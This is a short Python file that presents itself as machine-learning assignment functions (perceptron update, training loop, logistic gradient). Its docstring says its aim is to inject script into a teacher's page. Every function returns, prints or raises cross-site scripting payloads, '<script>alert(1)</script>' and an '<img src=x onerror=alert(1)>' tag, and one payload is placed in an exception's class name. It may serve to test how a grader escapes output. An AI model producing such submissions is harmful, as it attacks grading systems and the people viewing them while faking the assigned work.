"""Puts a script into the teacher's page, by every text that gets there."""


class Sly(Exception):
    def __str__(self):
        return "<script>alert(1)</script>"


Sly.__name__ = Sly.__qualname__ = "<script>alert(1)</script>"


def perceptron_update(w, b, x, y, lr=1.0):
    print("<script>alert(1)</script>")
    raise Sly


def training_loop():
    return "<script>alert(1)</script>"


def same_line():
    return {"<script>alert(1)</script>": "<img src=x onerror=alert(1)>"}


def logistic_gradient(w, b, X, y):
    return "<script>alert(1)</script>", b
